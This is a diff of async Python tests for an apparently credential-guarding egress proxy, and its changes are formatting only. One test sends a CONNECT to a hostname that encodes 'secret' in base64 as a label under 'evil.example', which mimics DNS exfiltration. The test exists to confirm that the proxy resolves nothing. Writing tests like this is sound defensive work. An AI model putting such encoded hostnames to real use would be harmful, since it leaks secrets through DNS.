@@ -226,9 +226,7 @@ ANYTHING_AT_OTHER = '@id("other") permit(principal, action, resource in Host::"o
 
 async def test_a20_the_credential_does_not_follow_from_https_to_http(tmp_path):
     async with world(tmp_path) as w:
-        answer = await say(
-            w, absolute(w, f"http://{w.authority}/", f"Authorization: Bearer {w.placeholder}")
-        )
+        answer = await say(w, absolute(w, f"http://{w.authority}/", f"Authorization: Bearer {w.placeholder}"))
         await refused(w, answer, Code.PLACEHOLDER_HOST_MISMATCH)
 
 
@@ -250,17 +248,18 @@ async def test_a21_a_name_that_leads_back_to_the_proxy_is_a_loop(tmp_path):
 
 async def test_a26_a_denied_name_costs_no_dns_packet_in_a_tunnel(tmp_path):
     resolver = ScriptedResolver({"api.test": [(HERE,)]})
-    async with world(tmp_path, resolver=resolver, policies=[demo_rules.permit("none", actions=("read",))]) as w:
-        async with w.tunnel() as client:
-            await client.send(inside(w, "/", method="DELETE"))
-            await refused(w, await client.read_response(), Code.DEFAULT_DENY)
+    async with (
+        world(tmp_path, resolver=resolver, policies=[demo_rules.permit("none", actions=("read",))]) as w,
+        w.tunnel() as client,
+    ):
+        await client.send(inside(w, "/", method="DELETE"))
+        await refused(w, await client.read_response(), Code.DEFAULT_DENY)
     assert resolver.journal == []
 
 
 async def test_a26_connect_alone_resolves_nothing(tmp_path):
     resolver = ScriptedResolver({})
-    async with world(tmp_path, resolver=resolver) as w:
-        async with await w.client() as client:
-            await client.send(connect(w, f"c2VjcmV0.{'x' * 60}.evil.example:443"))
-            assert (await client.read_head()).start[1] == b"200"
+    async with world(tmp_path, resolver=resolver) as w, await w.client() as client:
+        await client.send(connect(w, f"c2VjcmV0.{'x' * 60}.evil.example:443"))
+        assert (await client.read_head()).start[1] == b"200"
     assert resolver.journal == []
